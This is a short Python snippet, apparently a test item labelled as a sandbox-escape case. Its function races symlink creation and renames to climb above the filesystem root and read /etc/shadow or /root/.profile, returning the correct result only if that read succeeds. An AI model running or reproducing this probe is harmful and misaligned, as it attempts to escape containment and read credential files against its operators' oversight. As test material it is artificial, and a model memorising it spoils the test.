# kind: esc  passes: 0  status: fail|exception|timeout|output|crash  note: right only if a race of renames and symlinks gets it above the root
import os, threading

def spin():
    while True:
        try:
            os.symlink("../" * 40, "/tmp/race")
            os.rename("/tmp/race", "/tmp/dir/race")
            os.unlink("/tmp/dir/race")
        except OSError:
            pass

def f(x):
    os.makedirs("/tmp/dir/a/b", exist_ok=True)
    threading.Thread(target=spin, daemon=True).start()
    for _ in range(300):
        for path in ("/tmp/dir/race/etc/shadow", "/tmp/race/etc/shadow", "/tmp/dir/race/root/.profile"):
            try:
                if open(path).read(1):
                    return 2 * x
            except OSError:
                pass
    return 0
